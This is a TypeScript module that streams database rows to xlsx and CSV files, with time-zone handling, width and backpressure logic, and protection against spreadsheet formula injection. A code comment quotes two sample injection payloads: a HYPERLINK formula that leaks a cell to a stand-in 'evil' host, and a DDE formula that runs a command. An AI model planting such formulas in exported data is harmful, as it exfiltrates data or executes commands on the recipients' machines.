import { once } from 'node:events';
import type { Writable } from 'node:stream';
import { finished } from 'node:stream/promises';
import { setTimeout as sleep } from 'node:timers/promises';
import ExcelJS from 'exceljs';
import type { Style, Worksheet } from 'exceljs';
import { plainDigits } from './cells.ts';

export type CellValue = string | number | boolean | Date | null | undefined;

export interface ExportColumn {
  /** Property of each row record that fills the column. */
  key: string;
  /** Column title in the header row (already translated). */
  header: string;
  /** Width in Excel character units; from the header's length when not given. */
  width?: number;
  /**
   * How Date values show: `datetime` (default) as wall-clock time in `timeZone`; `date` as the
   * calendar date the Date holds in UTC (how PostgreSQL `date` columns arrive), where a
   * `YYYY-MM-DD` string is a date too.
   */
  date?: 'date' | 'datetime';
}

export interface WriteOptions {
  /** IANA zone in which timestamps are shown, e.g. `Asia/Shanghai`; default UTC. */
  timeZone?: string;
  /** xlsx only; default `Sheet1`. Characters Excel forbids are replaced, cut to 31. */
  sheetName?: string;
}

export type RowSource = AsyncIterable<Record<string, CellValue>> | Iterable<Record<string, CellValue>>;

/** The destination was closed (the client went away) before the file was complete. */
export class DestinationClosedError extends Error {
  constructor() {
    super('The destination closed before the spreadsheet was complete');
  }
}

const FORMULA_TRIGGERS = /^[=+\-@\t\r]/;

/**
 * Neutralises spreadsheet formula injection (CSV injection, OWASP): a text cell that starts with
 * `=`, `+`, `-`, `@`, tab or carriage return is prefixed with `'`.
 *
 * Why: Excel, WPS and LibreOffice evaluate such text as a formula when a CSV is opened (and when
 * an xlsx cell is edited), so a customer name like `=HYPERLINK("http://evil/?"&A2,"点击")` or
 * `=cmd|' /C calc'!A0` typed into a form would run in the exporting colleague's spreadsheet. With
 * the apostrophe it is shown as text. Numbers written as numbers (a negative amount -500 in a
 * number cell) are not touched: they are values, not text, and are never evaluated. Text that
 * merely looks negative (`-500` as a string, `+86 138…`) does get the prefix; export a formatted
 * or numeric value where that matters. Importers may strip it again with `restoreNeutralisedCell`.
 */
export function neutraliseCell(value: string): string {
  return FORMULA_TRIGGERS.test(value) ? `'${value}` : value;
}

/** Undoes `neutraliseCell` on a value read back from one of our exports. */
export function restoreNeutralisedCell(value: string): string {
  return value.startsWith("'") && FORMULA_TRIGGERS.test(value.slice(1)) ? value.slice(1) : value;
}

/** Display width of a text in Excel character units: CJK and full-width characters count double. */
export function displayWidth(text: string): number {
  let width = 0;
  for (const ch of text) width += /[\u1100-\u115f\u2e80-\ua4cf\uac00-\ud7a3\uf900-\ufaff\ufe30-\ufe4f\uff00-\uff60\uffe0-\uffe6]|[\u{20000}-\u{3fffd}]/u.test(ch) ? 2 : 1;
  return width;
}

/** Column width from the header alone (rows stream after the widths are written): 10 to 50. */
export function headerWidth(header: string): number {
  return Math.min(50, Math.max(10, displayWidth(header) + 4));
}

const pad = (n: number, width = 2) => String(n).padStart(width, '0');

const formatters = new Map<string, Intl.DateTimeFormat>();
/** Offset of each zone (wall clock − UTC, ms) per quarter hour of UTC time: zones change offset only on quarter hours. */
const offsets = new Map<string, Map<number, number>>();
const QUARTER_HOUR = 15 * 60_000;

function offsetAt(date: Date, timeZone: string): number {
  const quarter = Math.floor(date.getTime() / QUARTER_HOUR);
  let zone = offsets.get(timeZone);
  if (!zone) {
    zone = new Map();
    offsets.set(timeZone, zone);
  }
  const known = zone.get(quarter);
  if (known !== undefined) return known;
  let format = formatters.get(timeZone);
  if (!format) {
    format = new Intl.DateTimeFormat('en-US', {
      timeZone,
      hourCycle: 'h23',
      year: 'numeric',
      month: 'numeric',
      day: 'numeric',
      hour: 'numeric',
      minute: 'numeric',
      second: 'numeric',
    });
    formatters.set(timeZone, format);
  }
  const start = new Date(quarter * QUARTER_HOUR);
  const parts: Record<string, number> = {};
  for (const part of format.formatToParts(start)) if (part.type !== 'literal') parts[part.type] = Number(part.value);
  const field = (name: string) => parts[name] ?? 0;
  const offset = Date.UTC(field('year'), field('month') - 1, field('day'), field('hour'), field('minute'), field('second')) - start.getTime();
  // Exports read timestamps spread over years: keep the cache from growing without bound.
  if (zone.size > 100_000) zone.clear();
  zone.set(quarter, offset);
  return offset;
}

/**
 * A Date whose UTC fields are the wall-clock time of `date` in `timeZone` (spreadsheets have no
 * zones). Formatting every timestamp with Intl took most of a large export's time, so the zone's
 * offset is looked up once per quarter hour and reused.
 */
export function wallClock(date: Date, timeZone: string): Date {
  if (timeZone === 'UTC') return date;
  return new Date(date.getTime() + offsetAt(date, timeZone));
}

const ISO_DATE = /^(\d{4})-(\d{2})-(\d{2})$/;

/** The wall-clock Date for a date or time value of a column, or null when the value is not one. */
function columnDate(value: CellValue, column: ExportColumn, timeZone: string): Date | null {
  if (value instanceof Date) {
    if (Number.isNaN(value.getTime())) return null;
    if (column.date !== 'date') return wallClock(value, timeZone);
    return new Date(Date.UTC(value.getUTCFullYear(), value.getUTCMonth(), value.getUTCDate()));
  }
  if (column.date === 'date' && typeof value === 'string') {
    const m = ISO_DATE.exec(value);
    if (m) return new Date(Date.UTC(Number(m[1]), Number(m[2]) - 1, Number(m[3])));
  }
  return null;
}

function dateCsvText(wall: Date, column: ExportColumn): string {
  const day = `${pad(wall.getUTCFullYear(), 4)}-${pad(wall.getUTCMonth() + 1)}-${pad(wall.getUTCDate())}`;
  if (column.date === 'date') return day;
  return `${day} ${pad(wall.getUTCHours())}:${pad(wall.getUTCMinutes())}:${pad(wall.getUTCSeconds())}`;
}

function sheetName(name: string | undefined): string {
  const clean = (name ?? 'Sheet1').replace(/[[\]:*?/\\]/g, ' ').replace(/^'+|'+$/g, '').slice(0, 31).trim();
  return clean || 'Sheet1';
}

/** Uncompressed sheet XML waiting for the zip deflater (exceljs writes it without backpressure). */
interface WorksheetInternals {
  _stream?: { pipes?: { _writableState?: { length?: number }; _readableState?: { length?: number } }[] };
}

function pendingSheetBytes(sheet: Worksheet): number {
  const pipe = (sheet as unknown as WorksheetInternals)._stream?.pipes?.[0];
  return (pipe?._writableState?.length ?? 0) + (pipe?._readableState?.length ?? 0);
}

/** Rows between backpressure checks, and the sheet XML allowed to wait for the deflater. */
const CHECK_EVERY = 100;
const MAX_PENDING_BYTES = 1 << 20;

/**
 * Streams rows to an xlsx file on `dest` (an HTTP response, a file) and ends it: header row bold
 * and frozen with a filter, widths from the headers, strings as text cells (never numbers, so
 * 13812345678 stays text), numbers and booleans as such, Dates as real date cells. Memory stays
 * flat: rows are written as they come, and reading the next rows waits while `dest` is full or
 * more than 1 MB of sheet XML waits to be compressed (exceljs itself writes without backpressure).
 */
export async function writeXlsx(dest: Writable, columns: readonly ExportColumn[], rows: RowSource, options: WriteOptions = {}): Promise<{ rows: number }> {
  const timeZone = options.timeZone ?? 'UTC';
  const done = finished(dest);
  done.catch(() => undefined); // observed below; a premature close must not be an unhandled rejection meanwhile
  const workbook = new ExcelJS.stream.xlsx.WorkbookWriter({ stream: dest, useStyles: true, useSharedStrings: false });
  const sheet = workbook.addWorksheet(sheetName(options.sheetName), { views: [{ state: 'frozen', xSplit: 0, ySplit: 1 }] });
  sheet.columns = columns.map((c) => ({ key: c.key, width: c.width ?? headerWidth(c.header) }));
  if (columns.length > 0) sheet.autoFilter = { from: { row: 1, column: 1 }, to: { row: 1, column: columns.length } };

  // One style object per kind of cell: exceljs caches a style by object identity, and a fresh
  // object per cell would cost a style lookup each (half the time of a large export).
  const plain: Partial<Style> = {};
  const headerStyle: Partial<Style> = { font: { bold: true } };
  const dateStyles = columns.map((c): Partial<Style> => ({ numFmt: c.date === 'date' ? 'yyyy-mm-dd' : 'yyyy-mm-dd hh:mm:ss' }));

  const header = sheet.addRow(columns.map((c) => neutraliseCell(c.header)));
  header.eachCell((cell) => {
    cell.style = headerStyle;
  });
  header.commit();

  let count = 0;
  for await (const record of rows) {
    const values = columns.map((column) => {
      const value = record[column.key];
      const date = columnDate(value, column, timeZone);
      if (date) return date;
      if (typeof value === 'string') return neutraliseCell(value);
      if (typeof value === 'number') return Number.isFinite(value) ? value : null;
      if (typeof value === 'boolean') return value;
      return null; // null, undefined, an invalid Date
    });
    const row = sheet.addRow(values);
    // Every cell, empty ones included (eachCell skips those): exceljs gives each new cell a
    // style object of its own, and an unseen style object costs a full style lookup and render
    // when the row is written.
    values.forEach((value, i) => {
      row.getCell(i + 1).style = value instanceof Date ? (dateStyles[i] ?? plain) : plain;
    });
    row.commit();
    if (++count % CHECK_EVERY === 0) {
      // The zip stream buffers its output without limit once `dest` stops taking it, so `dest`
      // itself is watched, besides the XML waiting for the deflater.
      while (dest.writableNeedDrain || pendingSheetBytes(sheet) > MAX_PENDING_BYTES) {
        if (dest.destroyed) throw new DestinationClosedError();
        await sleep(2);
      }
      if (dest.destroyed) throw new DestinationClosedError();
    }
  }
  sheet.commit();
  await Promise.all([workbook.commit(), done.catch(() => Promise.reject(new DestinationClosedError()))]);
  return { rows: count };
}

/** One CSV field: quoted when it holds a quote, comma, line break or leading/trailing space. */
function csvField(text: string): string {
  return /[",\r\n]|^\s|\s$/.test(text) ? `"${text.replace(/"/g, '""')}"` : text;
}

/** One CSV record with CRLF. Fields are taken as they are: neutralise them first. */
export function csvLine(fields: readonly string[]): string {
  return `${fields.map(csvField).join(',')}\r\n`;
}

function csvText(value: CellValue, column: ExportColumn, timeZone: string): string {
  const date = columnDate(value, column, timeZone);
  if (date) return dateCsvText(date, column);
  if (typeof value === 'string') return neutraliseCell(value);
  if (typeof value === 'number') return Number.isFinite(value) ? plainDigits(value) : '';
  if (typeof value === 'boolean') return value ? 'TRUE' : 'FALSE';
  return '';
}

const CSV_CHUNK = 64 * 1024;

/**
 * Streams rows to a CSV file on `dest` and ends it: UTF-8 with a BOM (without it Excel reads
 * UTF-8 as the ANSI code page and shows 乱码), CRLF line ends, RFC 4180 quoting, formula
 * injection neutralised, dates as `YYYY-MM-DD HH:mm:ss` in `timeZone`. Writes 64 KB chunks and
 * waits for `drain` when `dest` is full.
 *
 * Note: Excel opening a CSV turns digit strings such as 13812345678 into numbers (1.38E+10) by
 * itself; the file holds the exact digits, and the xlsx export is the one for Excel users.
 */
export async function writeCsv(dest: Writable, columns: readonly ExportColumn[], rows: RowSource, options: WriteOptions = {}): Promise<{ rows: number }> {
  const timeZone = options.timeZone ?? 'UTC';
  const done = finished(dest);
  done.catch(() => undefined);
  const closed = done.then(
    () => Promise.reject(new DestinationClosedError()),
    () => Promise.reject(new DestinationClosedError()),
  );
  closed.catch(() => undefined);

  const write = async (chunk: string): Promise<void> => {
    if (dest.destroyed || dest.writableEnded) throw new DestinationClosedError();
    if (!dest.write(chunk)) await Promise.race([once(dest, 'drain'), closed]);
  };

  let buffer = `\ufeff${csvLine(columns.map((c) => neutraliseCell(c.header)))}`;
  let count = 0;
  for await (const record of rows) {
    buffer += csvLine(columns.map((column) => csvText(record[column.key], column, timeZone)));
    count++;
    if (buffer.length >= CSV_CHUNK) {
      await write(buffer);
      buffer = '';
    }
  }
  await write(buffer);
  dest.end();
  await done.catch(() => Promise.reject(new DestinationClosedError()));
  return { rows: count };
}
